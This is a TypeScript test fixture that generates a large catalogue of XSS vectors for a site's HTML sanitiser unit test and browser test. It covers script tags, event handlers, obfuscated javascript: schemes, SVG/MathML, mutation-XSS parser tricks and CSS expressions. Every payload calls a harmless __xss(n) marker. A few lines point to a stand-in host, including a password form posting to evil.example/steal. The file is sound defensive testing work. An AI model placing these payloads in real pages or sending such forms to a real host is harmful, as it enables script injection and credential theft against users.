/**
 * Hostile HTML for the sanitiser's unit test (app/infra/sanitize.server.test.ts) and the
 * browser test that saves it as article content, title and excerpt
 * (tests/e2e/site/hostile-html.spec.ts).
 *
 * Each vector, if it ever ran, calls `__xss(<its number>)` (or `alert(<its number>)`, which the
 * browser test counts as a dialog): a page that shows them records who ran. Numbers are plain
 * digits so a vector needs no quotes, whatever context it lands in.
 */

export interface XssVector {
  /** Its number: what it passes to `__xss` / `alert` when it runs. */
  id: number
  family: string
  html: string
}

/** `$` in a template is the call the vector makes when it runs. */
type Template = [family: string, template: string]

const js = (n: number) => `__xss(${n})`

// Every way to write "javascript:" that a browser still reads as the scheme.
const JAVASCRIPT_SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'JAVASCRIPT:',
  ' javascript:',
  '\tjavascript:',
  '\x01javascript:',
  'java\tscript:',
  'java\nscript:',
  'java\rscript:',
  'java&#9;script:',
  'java&#x09;script:',
  'java&#10;script:',
  'java&#x0A;script:',
  'java&#13;script:',
  'java&Tab;script:',
  'java&NewLine;script:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3A;',
  'javascript&#0000058',
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#X6a;avascript:',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058',
  '&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;',
  '&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58',
  'jav&#x0D;ascript:',
  '&#14;javascript:',
  '&#x20;javascript:',
  'javascript\u2028:',
]

const SCHEME_CARRIERS: Array<[string, (scheme: string) => string]> = [
  ['a href', (s) => `<a href="${s}$">link</a>`],
  ['a href unquoted', (s) => `<a href=${s.replace(/\s/g, '&#9;')}$>link</a>`],
  ['img src', (s) => `<img src="${s}$">`],
  ['iframe src', (s) => `<iframe src="${s}$"></iframe>`],
  ['form action', (s) => `<form action="${s}$"><button>go</button></form>`],
  ['area href', (s) => `<map name=m><area shape=rect coords=0,0,9,9 href="${s}$"></map>`],
]

const TEMPLATES: Template[] = [
  // Script elements
  ['script', '<script>$</script>'],
  ['script', '<SCRIPT>$</SCRIPT>'],
  ['script', '<script type="text/javascript">$</script>'],
  ['script', '<script type="module">$</script>'],
  ['script', '<script src="data:text/javascript,$"></script>'],
  ['script', '<script/x>$</script>'],
  ['script', '<scr<script>ipt>$</scr</script>ipt>'],
  ['script', '<<script>$//<</script>'],
  ['script', '<script\n>$</script\n>'],
  ['script', '"><script>$</script>'],
  ['script', '</title><script>$</script>'],
  ['script', '</script><script>$</script>'],
  ['script', '</textarea><script>$</script>'],
  ['script', '</style><script>$</script>'],
  ['script', '<script>/*</script><script>*/$</script>'],
  // Event handlers, families that fire by themselves
  ['onerror', '<img src=x onerror=$>'],
  ['onerror', '<img src=x onerror="$">'],
  ['onerror', "<img src=x onerror='$'>"],
  ['onerror', '<img src=x OnErRoR=$>'],
  ['onerror', '<img/src=x/onerror=$>'],
  ['onerror', '<img src=x onerror\n=\n$>'],
  ['onerror', '<img src="x` `<script>$</script>"` `>'],
  ['onerror', '<img """><script>$</script>">'],
  ['onerror', '<image src=x onerror=$>'],
  ['onerror', '<video src=x onerror=$></video>'],
  ['onerror', '<video><source onerror=$></video>'],
  ['onerror', '<audio src=x onerror=$></audio>'],
  ['onerror', '<input type=image src=x onerror=$>'],
  ['onerror', '<object data=x onerror=$></object>'],
  ['onerror', '<link rel=stylesheet href=x onerror=$>'],
  ['onload', '<body onload=$>'],
  ['onload', '<svg onload=$>'],
  ['onload', '<svg/onload=$>'],
  ['onload', '<iframe onload=$></iframe>'],
  ['onload', '<img src="/favicon.svg" onload=$>'],
  ['onload', '<style onload=$></style>'],
  ['onload', '<frameset onload=$>'],
  ['onpageshow', '<body onpageshow=$>'],
  ['onfocus', '<input autofocus onfocus=$>'],
  ['onfocus', '<textarea autofocus onfocus=$></textarea>'],
  ['onfocus', '<select autofocus onfocus=$></select>'],
  ['onfocus', '<a href=# autofocus onfocus=$>f</a>'],
  ['onfocus', '<div tabindex=1 autofocus onfocus=$>f</div>'],
  ['onfocusin', '<input autofocus onfocusin=$>'],
  ['onblur', '<input autofocus onblur=$><input autofocus>'],
  ['ontoggle', '<details open ontoggle=$>'],
  ['ontoggle', '<details ontoggle=$ open><summary>s</summary></details>'],
  ['onbeforetoggle', '<div popover id=p onbeforetoggle=$>p</div>'],
  [
    'onanimation',
    '<style>@keyframes k{}</style><p style="animation-name:k" onanimationstart=$>a</p>',
  ],
  ['onanimation', '<p style="animation:k 1s" onanimationend=$ onwebkitanimationend=$>a</p>'],
  ['ontransition', '<p style="transition:color 1s" ontransitionrun=$ ontransitionend=$>t</p>'],
  ['onstart', '<marquee onstart=$>m</marquee>'],
  ['onscroll', '<div style="overflow:auto;height:9px" onscroll=$><br><br><br></div>'],
  ['onscrollend', '<div style="overflow:auto" onscrollend=$>s</div>'],
  [
    'oncontentvisibility',
    '<p style="content-visibility:auto" oncontentvisibilityautostatechange=$>c</p>',
  ],
  ['onloadstart', '<video src=x onloadstart=$></video>'],
  ['oncanplay', '<audio src=x oncanplay=$></audio>'],
  ['onhashchange', '<body onhashchange=$>'],
  ['onresize', '<body onresize=$>'],
  ['onmessage', '<body onmessage=$>'],
  ['onbeforeprint', '<body onbeforeprint=$>'],
  // Event handlers that need a person (must not survive either)
  ['mouse', '<p onclick=$>click</p>'],
  ['mouse', '<p ondblclick=$>dbl</p>'],
  ['mouse', '<p onmouseover=$>over</p>'],
  ['mouse', '<p onmouseenter=$>enter</p>'],
  ['mouse', '<p onmousedown=$ onmouseup=$ onmousemove=$>m</p>'],
  ['mouse', '<p onmouseleave=$ onmouseout=$>m</p>'],
  ['mouse', '<p oncontextmenu=$ onauxclick=$>m</p>'],
  ['mouse', '<p onwheel=$>w</p>'],
  ['pointer', '<p onpointerover=$ onpointerdown=$ onpointerenter=$ onpointerrawupdate=$>p</p>'],
  ['touch', '<p ontouchstart=$ ontouchend=$>t</p>'],
  ['keyboard', '<p onkeydown=$ onkeyup=$ onkeypress=$>k</p>'],
  ['form events', '<input onchange=$ oninput=$ oninvalid=$ onselect=$>'],
  ['form events', '<form onsubmit=$ onreset=$><button>b</button></form>'],
  ['drag', '<p draggable=true ondrag=$ ondragstart=$ ondrop=$>d</p>'],
  ['clipboard', '<p oncopy=$ oncut=$ onpaste=$>c</p>'],
  ['selection', '<p onselectstart=$ onselectionchange=$>s</p>'],
  ['handler on an allowed tag', '<a href="https://example.com" onclick=$>a</a>'],
  ['handler on an allowed tag', '<strong onmouseover=$>s</strong>'],
  ['handler on an allowed tag', '<h2 onclick=$>h</h2>'],
  ['handler on an allowed tag', '<ol onfocus=$ start=1><li onclick=$>l</li></ol>'],
  ['handler on an allowed tag', '<pre><code class="language-js" onclick=$>c</code></pre>'],
  [
    'handler on an allowed tag',
    '<figure onmouseover=$><figcaption onclick=$>f</figcaption></figure>',
  ],
  // SVG and MathML
  ['svg', '<svg><script>$</script></svg>'],
  ['svg', '<svg><script href="data:,$"/></svg>'],
  ['svg', '<svg><script xlink:href="data:,$"></script></svg>'],
  ['svg', '<svg><animate onbegin=$ attributeName=x dur=1s>'],
  ['svg', '<svg><animate onend=$ attributeName=x dur=0.01s>'],
  ['svg', '<svg><set onbegin=$ attributeName=x to=1>'],
  [
    'svg',
    '<svg><a><animate attributeName=href values="javascript:$"/><text y=20>c</text></a></svg>',
  ],
  ['svg', '<svg><a xlink:href="javascript:$"><text y=20>c</text></a></svg>'],
  [
    'svg',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=$ /></svg>#x"/></svg>',
  ],
  ['svg', '<svg><foreignObject><img src=x onerror=$></foreignObject></svg>'],
  [
    'svg',
    '<svg><foreignObject><iframe srcdoc="<script>parent.$</script>"></iframe></foreignObject></svg>',
  ],
  ['svg', '<svg><image href=x onerror=$ /></svg>'],
  [
    'svg',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">$</handler></svg>',
  ],
  ['svg', '<svg><desc><img src=x onerror=$></desc></svg>'],
  ['svg', '<svg><title><img src=x onerror=$></title></svg>'],
  ['svg', '<svg><style><img src=x onerror=$></style></svg>'],
  ['svg', '<svg><![CDATA[><img src=x onerror=$>]]></svg>'],
  ['math', '<math><maction actiontype=statusline xlink:href="javascript:$">m</maction></math>'],
  ['math', '<math href="javascript:$">m</math>'],
  ['math', '<math><mi xlink:href="data:x,<script>$</script>">m</mi></math>'],
  // Frames, objects, documents inside documents
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.$</script>"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;img src=x onerror=parent.$&gt;"></iframe>'],
  ['iframe', '<iframe src="data:text/html,<script>parent.$</script>"></iframe>'],
  ['frame', '<frameset><frame src="javascript:$"></frameset>'],
  ['object', '<object data="data:text/html,<script>parent.$</script>"></object>'],
  ['object', '<object data="javascript:$"></object>'],
  [
    'object',
    '<object type="image/svg+xml" data="data:image/svg+xml,<svg onload=parent.$ xmlns=%22http://www.w3.org/2000/svg%22/>"></object>',
  ],
  ['embed', '<embed src="data:text/html,<script>parent.$</script>">'],
  ['embed', '<embed src="javascript:$">'],
  ['portal', '<portal src="javascript:$"></portal>'],
  // data: URLs
  ['data: URL', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>'],
  ['data: URL', '<a href="data:text/html,<script>opener.$</script>">d</a>'],
  ['data: URL', '<a href="DaTa:text/html,<script>$</script>">d</a>'],
  ['data: URL', '<img src="data:image/svg+xml,<svg onload=$>">'],
  ['data: URL', '<img src="data:image/png;base64,iVBORw0KGgo=" onerror=$>'],
  ['data: URL', '<a href=" data:text/html,<script>$</script>">d</a>'],
  // Document-level elements
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:$">'],
  [
    'meta refresh',
    '<meta http-equiv="refresh" content="0; url=data:text/html,<script>$</script>">',
  ],
  ['base href', '<base href="javascript:$//">'],
  ['base href', '<base href="https://evil.example/"><a href="x">b</a>'],
  ['link', '<link rel=import href="data:text/html,<script>$</script>">'],
  ['link', '<link rel=preload as=script href="data:,$" onload=$>'],
  // Style
  ['style', '<p style="background:url(javascript:$)">s</p>'],
  ['style', '<p style="width:expression($)">s</p>'],
  ['style', '<p style="behavior:url(x.htc)" onreadystatechange=$>s</p>'],
  ['style', '<style>@import "javascript:$";</style>'],
  ['style', '<style>p{background:url("javascript:$")}</style>'],
  ['style', '<style>*{x:expression($)}</style>'],
  ['style', '<div style="x:\\65 xpression($)">s</div>'],
  ['style', '<p style="-moz-binding:url(data:text/xml,x)" onclick=$>s</p>'],
  // Forms
  ['form', '<form><button formaction="javascript:$">b</button></form>'],
  ['form', '<form id=f></form><button form=f formaction="javascript:$">b</button>'],
  ['form', '<form><input type=submit formaction="javascript:$"></form>'],
  ['form', '<isindex action="javascript:$" type=image>'],
  ['form', '<form action="https://evil.example/steal"><input name=password></form>'],
  // Mutation XSS and parser confusion
  ['mXSS noscript', '<noscript><p title="</noscript><img src=x onerror=$>"></noscript>'],
  ['mXSS template', '<template><img src=x onerror=$></template>'],
  ['mXSS template', '<template><style></template><img src=x onerror=$></style></template>'],
  ['mXSS math', '<math><mtext><table><mglyph><style><img src=x onerror=$>'],
  [
    'mXSS math',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src=x onerror=$>">',
  ],
  ['mXSS math', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=$>'],
  ['mXSS svg', '<svg></p><style><a id="</style><img src=1 onerror=$>">'],
  ['mXSS svg', '<svg><p><style><img src=x onerror=$></style></p></svg>'],
  ['mXSS table', '<table><td><img src=x onerror=$></td></table>'],
  ['mXSS table', '<table><style><img src=x onerror=$></style></table>'],
  ['mXSS select', '<select><style><img src=x onerror=$></style></select>'],
  ['mXSS select', '<select><template><img src=x onerror=$></template></select>'],
  ['mXSS comment', '<!-- <img src=x onerror=$> -->'],
  ['mXSS comment', '<!--><img src=x onerror=$>-->'],
  ['mXSS comment', '<!---><img src=x onerror=$>-->'],
  ['mXSS comment', '<!-- --!><img src=x onerror=$>-->'],
  ['mXSS comment', '<p title="<!--"><img src=x onerror=$>--></p>'],
  ['mXSS CDATA', '<![CDATA[<img src=x onerror=$>]]>'],
  ['mXSS CDATA', '<math><![CDATA[</math><img src=x onerror=$>]]></math>'],
  ['mXSS processing instruction', '<?xml ><img src=x onerror=$>?>'],
  ['mXSS raw text', '<textarea><img src=x onerror=$></textarea>'],
  ['mXSS raw text', '<title><img src=x onerror=$></title>'],
  ['mXSS raw text', '<xmp><img src=x onerror=$></xmp>'],
  ['mXSS raw text', '<noembed><img src=x onerror=$></noembed>'],
  ['mXSS raw text', '<noframes><img src=x onerror=$></noframes>'],
  ['mXSS raw text', '<plaintext><img src=x onerror=$>'],
  ['mXSS raw text', '<iframe><img src=x onerror=$></iframe>'],
  ['mXSS attribute', '<p title="</p><img src=x onerror=$>">t</p>'],
  ['mXSS attribute', '<a title="&lt;img src=x onerror=$&gt;">t</a>'],
  ['mXSS attribute', '<img alt=""><img src=x onerror=$>" src="/a.png">'],
  ['mXSS attribute', '<img src="/a.png" alt="`<img src=x onerror=$>`">'],
  ['mXSS attribute', '<a href="https://ok.example/&quot;onclick=&quot;$">q</a>'],
  ['mXSS attribute', "<a href='https://ok.example/' onmouseover=$>q</a>"],
  ['mXSS entities', '&lt;img src=x onerror=$&gt;'],
  ['mXSS entities', '&#60;img src=x onerror=$&#62;'],
  ['mXSS entities', '<p>&lt;script&gt;$&lt;/script&gt;</p>'],
  ['mXSS namespace', '<svg><![CDATA[</svg><img src=x onerror=$>]]>'],
  [
    'mXSS namespace',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=$>">',
  ],
  [
    'mXSS namespace',
    '<svg><foreignobject><p><style><img src=x onerror=$></style></p></foreignobject></svg>',
  ],
  ['mXSS nesting', '<a href="https://ok.example"><a href="javascript:$">nested</a></a>'],
  ['mXSS nesting', '<p><p><p><img src=x onerror=$></p>'],
  ['mXSS unclosed', '<img src=x onerror=$'],
  ['mXSS unclosed', '<svg onload=$//'],
  ['mXSS null byte', '<img src=x o\u0000nerror=$>'],
  ['mXSS null byte', '<scr\u0000ipt>$</scr\u0000ipt>'],
  ['mXSS null byte', '<a href="java\u0000script:$">n</a>'],
  // Article blocks (lib/body-blocks.ts): their markers carry nothing active
  [
    'block',
    '<figure data-block="pull-quote" onclick=$><blockquote onmouseover=$><p>q</p></blockquote><figcaption onclick=$>who</figcaption></figure>',
  ],
  [
    'block',
    '<figure data-block="pull-quote"><blockquote><p><img src=x onerror=$></p></blockquote></figure>',
  ],
  ['block', '<figure data-block="javascript:$"><figcaption>f</figcaption></figure>'],
  ['block', '<aside data-block="fact-box" onmouseover=$><h3 onclick=$>t</h3><p>x</p></aside>'],
  ['block', '<aside data-block="fact-box"><h3><a href="javascript:$">t</a></h3></aside>'],
  ['block', '<aside data-block="fact-box" data-article-id="1" style="x:expression($)">f</aside>'],
  [
    'block',
    '<aside data-block="related-article" data-article-id="1" data-title="x&quot; onmouseover=&quot;$"></aside>',
  ],
  [
    'block',
    '<aside data-block="related-article" data-article-id="1" data-title="</aside><img src=x onerror=$>"></aside>',
  ],
  ['block', '<aside data-block="related-article" data-article-id="1 onclick=$">r</aside>'],
  [
    'block',
    '<aside data-block="related-article" data-article-id="1"><img src=x onerror=$><a href="javascript:$">in</a></aside>',
  ],
  [
    'block',
    '<aside data-block="related-article" data-article-id="1"><aside data-block="fact-box"><h3>t</h3></aside><svg onload=$></aside>',
  ],
  ['block', '<aside data-block="other" onclick=$>s</aside>'],
  ['block', '<hr onclick=$ data-block="fact-box">'],
  // Other elements that load or run
  ['other', '<video poster="javascript:$"></video>'],
  ['other', '<img srcset="javascript:$ 1x" src="/a.png">'],
  ['other', '<img src="/a.png" longdesc="javascript:$">'],
  ['other', '<picture><source srcset="javascript:$"><img src="/a.png"></picture>'],
  ['other', '<applet code="javascript:$"></applet>'],
  ['other', '<xss style="behavior:url(#)" onpointerover=$>x</xss>'],
  ['other', '<custom-el onclick=$>c</custom-el>'],
  ['other', '<button popovertarget=p onclick=$>b</button>'],
  ['other', '<a href="vbscript:$">v</a>'],
  ['other', '<a href="livescript:$">l</a>'],
  ['other', '<a href="jar:javascript:$">j</a>'],
  ['other', '<a href="javascript://%0a$">j</a>'],
  ['other', '<a href="javascript:void(0)" onclick=$>j</a>'],
  ['other', '<a href="https://example.com" target="_self" rel="opener">o</a>'],
  ['other', '<a href="#" ping="https://evil.example">p</a>'],
  ['other', '<img src=`x`onerror=$>'],
  ['other', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['other', '<x onclick=$>x</x>'],
  // Body tables (issue 40): the sanitiser keeps the table, never what rides on it.
  ['table', '<table onmouseover=$><tr><td>t</td></tr></table>'],
  ['table', '<table><caption onclick=$>c</caption><tr><td>t</td></tr></table>'],
  ['table', '<table><caption><img src=x onerror=$></caption></table>'],
  [
    'table',
    '<table background="javascript:$"><tr><td background="javascript:$">t</td></tr></table>',
  ],
  [
    'table',
    '<table><tr><th colspan="2 onclick=$" rowspan=1 onfocus=$ autofocus>h</th></tr></table>',
  ],
  ['table', '<table><tr><td><a href="javascript:$">in a cell</a></td></tr></table>'],
  ['table', '<table><colgroup><col onmouseover=$ style="width:999em"></colgroup></table>'],
  ['table', '<table><tr><td style="background:url(javascript:$)">s</td></tr></table>'],
  [
    'table',
    '<table><tr><td><table><tr><td><img src=x onerror=$></td></tr></table></td></tr></table>',
  ],
  ['table', '<table><caption></caption><caption><svg onload=$></caption></table>'],
  // Galleries (issue 40, lib/gallery.ts): the figure structure and its links, nothing more.
  [
    'gallery',
    '<figure data-gallery="" onmouseover=$><figure><img src=x onerror=$></figure></figure>',
  ],
  [
    'gallery',
    '<figure data-gallery="javascript:$"><figure><a href="javascript:$"><img src="/a.png"></a></figure></figure>',
  ],
  [
    'gallery',
    '<figure data-gallery><figure><a href="/a.png" target="_self" onclick=$><img src="/a.png" alt="x" onload=$></a></figure></figure>',
  ],
  [
    'gallery',
    '<figure data-gallery><figure><figcaption>c<small onclick=$>Photo</small></figcaption></figure></figure>',
  ],
  [
    'gallery',
    '<figure data-gallery><figure><img src="data:image/svg+xml,<svg onload=$>"></figure></figure>',
  ],
  [
    'gallery',
    '<figure data-gallery><figure><a href="/a.png"><img src="/a.png" srcset="javascript:$ 2x"></a></figure></figure>',
  ],
  ['gallery', '<small style="background:url(javascript:$)">s</small>'],
  [
    'gallery',
    '<figure data-gallery><div data-lightbox onclick=$><img src="/a.png"></div></figure>',
  ],
  // Embed blocks (issue 40): the block is rebuilt from its attributes, its frame from the
  // provider's pattern, never from what was sent.
  ['embed', '<figure data-embed="youtube" data-url="javascript:$">x</figure>'],
  [
    'embed',
    '<figure data-embed="link" data-url=" javascript:$"><a href="javascript:$">x</a></figure>',
  ],
  [
    'embed',
    '<figure data-embed="youtube" data-url="https://www.youtube.com/watch?v=dQw4w9WgXcQ"><iframe src="javascript:$"></iframe><script>$</script></figure>',
  ],
  [
    'embed',
    '<figure data-embed="youtube" data-url="https://www.youtube.com.evil.test/watch?v=dQw4w9WgXcQ" data-title="<img src=x onerror=$>"></figure>',
  ],
  [
    'embed',
    '<figure data-embed="x" data-url="https://x.com/a/status/1&quot; onload=&quot;$" onmouseover=$></figure>',
  ],
  [
    'embed',
    '<figure data-embed="link" data-url="https://ok.example/" data-thumbnail="javascript:$"></figure>',
  ],
  [
    'embed',
    '<figure data-embed="youtube" data-url="https://youtu.be/dQw4w9WgXcQ" data-embed-src="javascript:$" data-thumbnail="https://evil.example/x.png?$"></figure>',
  ],
  [
    'embed',
    '<figure data-embed="googlemaps" data-url="https://www.google.com/maps/embed?pb=&quot;&gt;&lt;script&gt;$&lt;/script&gt;"></figure>',
  ],
  [
    'embed',
    '<figure class="embed" data-embed-src="javascript:$" data-embed-kind="youtube"><div class="embed-consent"><button data-embed-load>x</button></div></figure>',
  ],
  [
    'embed',
    '<figure data-embed="youtube" data-url="https://www.youtube.com/watch?v=dQw4w9WgXcQ" data-author="&lt;/span&gt;&lt;script&gt;$&lt;/script&gt;"></figure>',
  ],
  [
    'embed',
    '<figure data-embed="facebook" data-url="https://www.facebook.com/page/posts/1?href=javascript:$"></figure>',
  ],
  // A library image's credit (issue 40) is drawn from the library under a figure's caption:
  // the marks that carry it on the reader's pass are never taken from a stored body.
  [
    'body image credit',
    '<img src="/media/media/a.png" alt="" data-media-id="a.png" data-figure-credit="&lt;/small&gt;&lt;/figcaption&gt;&lt;script&gt;$&lt;/script&gt;">',
  ],
  [
    'body image credit',
    '<img src=x data-media-id="a.png" data-figure-caption="x&quot; onerror=&quot;$" data-figure-credit="&lt;img src=x onerror=$&gt;">',
  ],
]

function build(): XssVector[] {
  const vectors: XssVector[] = []
  const add = (family: string, template: string) => {
    const id = vectors.length + 1
    vectors.push({ id, family, html: template.replaceAll('$', js(id)) })
  }
  for (const [family, template] of TEMPLATES) add(family, template)
  for (const scheme of JAVASCRIPT_SCHEMES) {
    for (const [carrier, make] of SCHEME_CARRIERS.slice(0, scheme === 'javascript:' ? 6 : 2)) {
      add(`javascript: scheme (${carrier})`, make(scheme))
    }
  }
  return vectors
}

export const XSS_VECTORS: readonly XssVector[] = build()
